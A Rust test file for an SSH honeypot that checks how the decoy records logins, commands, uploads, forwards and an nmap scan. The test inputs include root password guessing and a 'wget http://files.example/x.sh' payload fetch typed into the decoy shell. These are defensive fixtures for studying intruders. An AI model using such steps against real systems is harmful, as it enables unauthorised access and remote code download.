//! OpenSSH's own client, nmap, and what they leave in the records.

use super::{Decoy, QUICK, of, run, stream, text};
use crate::conn::Conn;
use crate::recorder::BoxFuture;
use crate::services::{Outcome, Service};
use crate::session::{Route, Router, Session};
use glasshive_event::{Kind, Transport};
use std::process::{Command, Stdio};
use std::sync::Arc;

const PASSWORD: [&str; 4] = ["-o", "PreferredAuthentications=password", "-o", "NumberOfPasswordPrompts=1"];

fn with<'a>(more: &[&'a str]) -> Vec<&'a str> {
    PASSWORD.iter().copied().chain(more.iter().copied()).collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exec_by_password() {
    let decoy = Decoy::start(QUICK).await;
    let output = decoy.ssh("toor", &with(&["root@127.0.0.1", "echo out; echo err >&2; exit 7"]), b"").await;
    assert_eq!((text(&output.stdout).as_str(), output.status.code()), ("out\n", Some(7)), "{}", text(&output.stderr));
    assert!(text(&output.stderr).ends_with("err\n"), "{}", text(&output.stderr));
    let seen = decoy.closed(1).await;
    let logins: Vec<_> = of(&seen, Kind::Login).iter().map(|l| (l.detail["method"].clone(), l.detail["accepted"].clone())).collect();
    assert_eq!(logins, [("none".into(), false.into()), ("password".into(), true.into())]);
    assert_eq!(of(&seen, Kind::Login)[1].detail["secret_sealed"], "sealed:toor");
    let commands = of(&seen, Kind::Command);
    assert_eq!(commands.len(), 1);
    assert_eq!((commands[0].detail["exit"].as_i64(), commands[0].detail["output_len"].as_u64()), (Some(7), Some(8)));
    let hello = of(&seen, Kind::Hello);
    assert_eq!(hello.len(), 1);
    assert!(hello[0].detail["id"].as_str().unwrap().starts_with("SSH-2.0-OpenSSH_"));
    assert_eq!(hello[0].detail["hassh"].as_str().map(str::len), Some(32));
    assert_eq!(stream(&seen, "exec", "out"), b"out\nerr\n");
    let order: Vec<_> = seen.iter().map(|s| s.kind).filter(|k| *k != Kind::Stream).collect();
    assert_eq!(order, [Kind::SessionOpen, Kind::Hello, Kind::Login, Kind::Login, Kind::Command, Kind::SessionClose]);
    assert_eq!(seen.last().unwrap().detail["reason"], "client");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn wrong_password_and_the_third_guess() {
    let decoy = Decoy::start(QUICK).await;
    for guess in ["one", "two"] {
        let output = decoy.ssh(guess, &with(&["admin@127.0.0.1", "id"]), b"").await;
        assert_eq!(output.status.code(), Some(255));
        assert!(text(&output.stderr).contains("Permission denied (publickey,password)."), "{}", text(&output.stderr));
    }
    assert_eq!(decoy.ssh("three", &with(&["admin@127.0.0.1", "true"]), b"").await.status.code(), Some(0));
    assert_eq!(of(&decoy.closed(3).await, Kind::Login).len(), 6);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn standard_input_reaches_the_command_and_the_file() {
    let decoy = Decoy::start(QUICK).await;
    let payload: Vec<u8> = (0..=255u8).cycle().take(100_000).collect();
    let output = decoy.ssh("toor", &with(&["root@127.0.0.1", "cat > /tmp/dropped; wc -c < /tmp/dropped"]), &payload).await;
    assert_eq!(text(&output.stdout).trim(), "100000", "{}", text(&output.stderr));
    let seen = decoy.closed(1).await;
    let files = of(&seen, Kind::File);
    assert_eq!(files.len(), 1);
    assert_eq!((files[0].detail["name"].as_str(), files[0].detail["size"].as_u64()), (Some("/tmp/dropped"), Some(100_000)));
    assert!(decoy.kit.files.0.lock().unwrap().values().any(|content| *content == payload));
    assert_eq!(stream(&seen, "exec", "in"), payload);
    // The next visit of the same source finds it.
    let output = decoy.ssh("toor", &with(&["root@127.0.0.1", "wc -c /tmp/dropped"]), b"").await;
    assert_eq!(text(&output.stdout), "100000 /tmp/dropped\n");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_terminal() {
    let decoy = Decoy::start(QUICK).await;
    let output = decoy.ssh("toor", &with(&["-tt", "root@127.0.0.1"]), b"echo \"a\"b\rwget http://files.example/x.sh\rexit 3\r").await;
    assert_eq!(output.status.code(), Some(3), "{}", text(&output.stderr));
    let shown = text(&output.stdout);
    assert!(shown.contains("\rab\r\n") && shown.contains("root@web-1:~# "), "{shown:?}");
    let seen = decoy.closed(1).await;
    let commands: Vec<_> = of(&seen, Kind::Command).iter().map(|c| c.detail["input"].as_str().unwrap().to_owned()).collect();
    assert_eq!(commands, ["echo \"a\"b", "wget http://files.example/x.sh", "exit 3"]);
    let fetches: Vec<_> = of(&seen, Kind::Request).into_iter().filter(|r| r.detail["protocol"] == "shell-download").collect();
    assert_eq!(fetches.len(), 1);
    assert_eq!(fetches[0].detail["target"], "http://files.example/x.sh");
    assert_eq!(stream(&seen, "shell", "out"), output.stdout, "what was shown is what is recorded");
    assert!(of(&seen, Kind::Stream).iter().all(|s| s.detail["terminal"].is_array()));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_script_without_terminal() {
    let decoy = Decoy::start(QUICK).await;
    let output = decoy.ssh("toor", &with(&["-T", "root@127.0.0.1"]), b"echo one\nif true; then\necho two\nfi\n").await;
    assert_eq!((text(&output.stdout).as_str(), output.status.code()), ("one\ntwo\n", Some(0)), "{}", text(&output.stderr));
    let seen = decoy.closed(1).await;
    let commands: Vec<_> = of(&seen, Kind::Command).iter().map(|c| c.detail["input"].as_str().unwrap().to_owned()).collect();
    assert_eq!(commands, ["echo one", "if true; then\necho two\nfi"]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_public_key_is_recorded_whole() {
    let decoy = Decoy::start(QUICK).await;
    let key = decoy.dir.path().join("id");
    let made = Command::new("ssh-keygen").args(["-q", "-N", "", "-t", "ed25519", "-C", "", "-f"]).arg(&key).stdin(Stdio::null()).status();
    assert!(made.unwrap().success());
    let identity = key.display().to_string();
    let arguments = ["-i", &identity, "-o", "PreferredAuthentications=publickey", "-o", "BatchMode=yes", "root@127.0.0.1", "id"];
    let output = decoy.ssh("-", &arguments, b"").await;
    assert!(text(&output.stderr).contains("Permission denied (publickey,password)."), "{}", text(&output.stderr));
    let seen = decoy.closed(1).await;
    let offered = of(&seen, Kind::Login).into_iter().find(|l| l.detail["method"] == "publickey").unwrap();
    let public = std::fs::read_to_string(key.with_extension("pub")).unwrap();
    assert_eq!(offered.detail["public_key"].as_str(), Some(public.trim()));
    assert_eq!((offered.detail["signature"].as_bool(), offered.detail["accepted"].as_bool()), (Some(false), Some(false)));
    assert!(offered.detail["fingerprint"].as_str().unwrap().starts_with("SHA256:"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn keyboard_interactive_asks_as_pam_does() {
    let decoy = Decoy::start("fail_delay_ms = 0\nkeyboard_interactive = true").await;
    let arguments = ["-o", "PreferredAuthentications=keyboard-interactive", "root@127.0.0.1", "echo in"];
    let output = decoy.ssh("toor", &arguments, b"").await;
    assert_eq!(text(&output.stdout), "in\n", "{}", text(&output.stderr));
    let seen = decoy.closed(1).await;
    assert!(of(&seen, Kind::Login).iter().any(|l| l.detail["method"] == "keyboard-interactive" && l.detail["accepted"] == true));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn too_many_failures() {
    let decoy = Decoy::start(QUICK).await;
    let arguments = ["-o", "PreferredAuthentications=password", "-o", "NumberOfPasswordPrompts=9", "root@127.0.0.1", "id"];
    let output = decoy.ssh("wrong", &arguments, b"").await;
    let said = text(&output.stderr);
    assert!(said.contains("Received disconnect from 127.0.0.1") && said.contains(":2: Too many authentication failures"), "{said}");
    let seen = decoy.closed(1).await;
    assert_eq!(of(&seen, Kind::Login).iter().filter(|l| l.detail["method"] == "password").count(), 6);
    assert_eq!(seen.last().unwrap().detail["reason"], "server");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn forwards_are_recorded_and_lead_nowhere() {
    let decoy = Decoy::start(QUICK).await;
    let output = decoy.ssh("toor", &with(&["-W", "192.0.2.77:80", "root@127.0.0.1"]), b"").await;
    assert!(text(&output.stderr).contains("open failed: connect failed: No route to host"), "{}", text(&output.stderr));
    let remote = ["-R", "18080:192.0.2.78:81", "-o", "ExitOnForwardFailure=yes", "root@127.0.0.1", "echo still here"];
    let output = decoy.ssh("toor", &with(&remote), b"").await;
    assert_eq!(text(&output.stdout), "still here\n", "{}", text(&output.stderr));
    let seen = decoy.closed(2).await;
    let forwards = of(&seen, Kind::Forward);
    let facts: Vec<_> = forwards.iter().map(|f| (f.detail["mechanism"].as_str().unwrap(), f.detail["port"].as_u64().unwrap())).collect();
    assert_eq!(facts, [("direct-tcpip", 80), ("tcpip-forward", 18_080)]);
    assert!(forwards.iter().all(|f| f.detail["answered"] == false));
    assert_eq!(forwards[0].detail["host"], "192.0.2.77");
}

/// Says hello, then everything back.
struct Echo;

impl Service for Echo {
    fn serve(&self, mut conn: Conn, _: Session) -> BoxFuture<'static, Outcome> {
        Box::pin(async move {
            let _ = tokio::io::AsyncWriteExt::write_all(&mut conn, b"hello\n").await;
            let (mut read, mut write) = tokio::io::split(conn);
            let _ = tokio::io::copy(&mut read, &mut write).await;
            Outcome::Client
        })
    }
}

impl Router for Echo {
    fn route(&self, from: &Arc<crate::persona::Decoy>, host: &str, port: u16, _: Transport) -> Option<Route> {
        (host == "10.0.0.9" && port == 7).then(|| Route {
            decoy: Arc::clone(from),
            service_name: "echo",
            service: Arc::new(Echo),
            address: ([10, 0, 0, 9], 7).into(),
        })
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_own_service_answers_a_forward_in_process() {
    let decoy = Decoy::start(QUICK).await;
    decoy.kit.route(Arc::new(Echo));
    let payload = vec![b'z'; 3_000_000];
    let output = decoy.ssh("toor", &with(&["-W", "10.0.0.9:7", "root@127.0.0.1"]), &payload).await;
    assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
    assert_eq!(output.stdout.len(), payload.len() + 6);
    let seen = decoy.closed(2).await;
    let forward = of(&seen, Kind::Forward)[0];
    assert_eq!(forward.detail["answered"], true);
    let inner = seen.iter().find(|s| s.kind == Kind::SessionOpen && s.envelope.service.as_deref() == Some("echo")).unwrap();
    assert_eq!(forward.detail["child"], inner.envelope.session.unwrap().to_string());
    let carried = of(&seen, Kind::Stream).into_iter().find(|s| s.detail["role"] == "tcp").unwrap();
    assert_eq!((&forward.detail["channel"], carried.envelope.session), (&carried.detail["channel"], forward.envelope.session));
    assert_eq!(inner.envelope.parent, forward.envelope.session);
    assert_eq!(stream(&seen, "tcp", "in"), payload);
    assert_eq!(stream(&seen, "tcp", "out").len(), payload.len() + 6);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sftp_is_not_installed_here() {
    let decoy = Decoy::start(QUICK).await;
    let output = run(decoy.client("sftp", "toor", &with(&["root@127.0.0.1"])), b"ls\n".to_vec()).await;
    assert!(text(&output.stderr).contains("subsystem request failed"), "{}", text(&output.stderr));
    let seen = decoy.closed(1).await;
    assert!(of(&seen, Kind::Request).iter().any(|r| r.detail["verb"] == "subsystem" && r.detail["target"] == "sftp"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nmap_names_openssh() {
    let decoy = Decoy::start(QUICK).await;
    let port = decoy.address.port().to_string();
    let output = tokio::task::spawn_blocking(move || {
        Command::new("nmap").args(["-n", "-Pn", "-sT", "-sV", "-p", &port, "127.0.0.1"]).output().expect("nmap: install the package nmap")
    })
    .await
    .unwrap();
    let text = text(&output.stdout);
    assert!(text.contains("OpenSSH 9.2p1 Debian 2+deb12u"), "{text}");
}
